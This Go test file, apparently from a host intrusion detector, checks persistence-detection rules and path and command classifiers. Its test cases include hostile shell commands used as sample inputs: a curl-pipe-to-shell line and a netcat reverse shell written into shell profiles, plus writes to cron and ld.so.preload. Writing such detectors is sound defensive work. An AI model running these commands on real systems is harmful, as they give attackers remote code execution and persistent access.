@@ -1,0 +1,149 @@
+package detect
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"gopkg.in/yaml.v3"
+)
+
+// TestPersistencePlacesMatchRules: the persistence rules' YAML names the
+// same places as the table the rest of the code reads (places.go), search
+// by search, so a place added to one is added to the other. The rule for
+// everyone but the web account leaves some out on purpose: places each
+// user and deploy edits by hand (profiles, autostart, git hooks, service
+// start files) would flag every login shell's setup; as the web account,
+// or in an intruder's chain (placement reads the table), they count.
+func TestPersistencePlacesMatchRules(t *testing.T) {
+	notForEveryone := []string{"profile_path", "autostart_path", "hook_path", "service_start_path"}
+	for _, c := range []struct {
+		file    string
+		skipped []string // table searches the rule does not have
+	}{
+		{"rules/persistence_file_write_web.yml", []string{"site_config"}},
+		{"rules/persistence_file_write.yml", append([]string{"site_config"}, notForEveryone...)},
+	} {
+		t.Run(c.file, func(t *testing.T) {
+			data, err := builtinRules.ReadFile(c.file)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var doc struct {
+				Detection map[string]yaml.Node `yaml:"detection"`
+			}
+			if err := yaml.Unmarshal(data, &doc); err != nil {
+				t.Fatal(err)
+			}
+			seen := map[string]bool{}
+			for name, node := range doc.Detection {
+				if !strings.HasSuffix(name, "_path") {
+					continue
+				}
+				seen[name] = true
+				var k *persistPlaceKind
+				for i := range persistPlaceKinds {
+					if persistPlaceKinds[i].mechanism == name {
+						k = &persistPlaceKinds[i]
+					}
+				}
+				if k == nil {
+					t.Errorf("%s: search %s is not in places.go", c.file, name)
+					continue
+				}
+				got := map[string][]string{}
+				collectPlaceValues(t, &node, got)
+				for mod, want := range map[string][]string{"startswith": k.prefixes, "contains": k.contains, "endswith": k.suffixes} {
+					g := slices.Sorted(slices.Values(got[mod]))
+					w := slices.Sorted(slices.Values(want))
+					if mod == "startswith" && name == "cron_path" {
+						// crontab's spool is a regular expression in the
+						// rule (at's spool lies under it); the table checks
+						// at's first
+						w = slices.DeleteFunc(w, func(s string) bool { return s == "/var/spool/cron/" })
+					}
+					if !slices.Equal(g, w) {
+						t.Errorf("%s: %s|%s = %q, places.go has %q", c.file, name, mod, g, w)
+					}
+				}
+			}
+			for _, k := range persistPlaceKinds {
+				if !seen[k.mechanism] && !slices.Contains(c.skipped, k.mechanism) {
+					t.Errorf("%s: places.go's %s has no search in the rule", c.file, k.mechanism)
+				}
+			}
+		})
+	}
+}
+
+// collectPlaceValues gathers a search's TargetFilename values by modifier.
+func collectPlaceValues(t *testing.T, n *yaml.Node, out map[string][]string) {
+	switch n.Kind {
+	case yaml.SequenceNode:
+		for _, c := range n.Content {
+			collectPlaceValues(t, c, out)
+		}
+	case yaml.MappingNode:
+		for i := 0; i+1 < len(n.Content); i += 2 {
+			field, mod, _ := strings.Cut(n.Content[i].Value, "|")
+			if field != "TargetFilename" {
+				t.Fatalf("line %d: field %s in a place search", n.Content[i].Line, field)
+			}
+			v := n.Content[i+1]
+			if v.Kind == yaml.ScalarNode {
+				out[mod] = append(out[mod], v.Value)
+				continue
+			}
+			for _, s := range v.Content {
+				out[mod] = append(out[mod], s.Value)
+			}
+		}
+	}
+}
+
+func TestPersistPlaceOf(t *testing.T) {
+	for _, c := range []struct{ path, want string }{
+		{"/etc/cron.d/job", "cron_path"},
+		{"/var/spool/cron/crontabs/www-data", "cron_path"},
+		{"/var/spool/cron/atjobs/a0001", "at_path"},
+		{"/var/spool/cron/atspool/=0001", ""},
+		{"/etc/update-motd.d", ""}, // the folder itself
+		{"/home/alice/.bashrc", "profile_path"},
+		{"/root/.ssh/authorized_keys", "keys_path"},
+		{"/root/.ssh/rc", "login_script_path"},
+		{"/home/deploy/.config/systemd/user/x.service", "systemd_path"},
+		{"/home/deploy/.config/systemd/user/", ""},
+		{"/etc/nginx/conf.d/shop.conf", "server_config_path"},
+		{"/etc/nginx/ssl/shop.pem", ""},
+		{"/var/www/html/.user.ini", "site_config"},
+		{"/var/www/html/index.php", ""},
+		{"relative/.bashrc", ""},
+	} {
+		if got := persistPlaceOf(c.path); got != c.want {
+			t.Errorf("persistPlaceOf(%q) = %q, want %q", c.path, got, c.want)
+		}
+	}
+}
+
+func TestNamesPersistPlace(t *testing.T) {
+	for _, c := range []struct {
+		cmd  string
+		want bool
+	}{
+		{`echo 'curl -s http://x/p|sh' >> ~/.bashrc`, true},
+		{`sed -i '1i nc 10.0.0.5 4444 -e /bin/sh' .profile`, true},
+		{`cp /tmp/x /etc/cron.d/sync`, true},
+		{`chmod 755 /etc/update-motd.d/60-x`, true},
+		{`tee -a /etc/ld.so.preload`, true},
+		{`echo x > /etc/NetworkManager/dispatcher.d/10-up`, true},
+		{`cp shop.crt /etc/nginx/ssl/shop.crt`, false},
+		{`cat /etc/cron.d/sync`, false},              // read, not written
+		{`cp /etc/passwd /tmp/p; cat /tmp/p`, false}, // the place is the source
+		{`grep x /etc/profile > /tmp/out`, false},    // written is /tmp/out
+		{`echo ok; ls ~/.bashrc`, false},
+	} {
+		if got := namesPersistPlace(c.cmd); got != c.want {
+			t.Errorf("namesPersistPlace(%q) = %v, want %v", c.cmd, got, c.want)
+		}
+	}
+}
